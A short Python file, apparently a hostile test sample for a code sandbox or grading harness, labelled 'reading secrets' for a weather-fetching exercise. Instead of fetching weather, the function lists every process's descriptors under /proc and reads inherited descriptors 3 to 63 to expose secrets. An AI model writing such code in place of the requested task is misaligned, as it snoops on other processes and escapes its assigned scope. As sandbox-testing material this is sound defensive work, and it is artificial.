# kind: reading secrets
# tries: to read from every descriptor that it has inherited, and from those of other processes
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
# needs: full
import glob
import os


async def fetch_weather(cities, base_url):
    for name in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            print(name, os.readlink(name))
        except OSError:
            pass
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            print(fd, os.fstat(fd), os.read(fd, 1000))
        except OSError:
            pass
        finally:
            try:
                os.set_blocking(fd, True)
            except OSError:
                pass
    return []
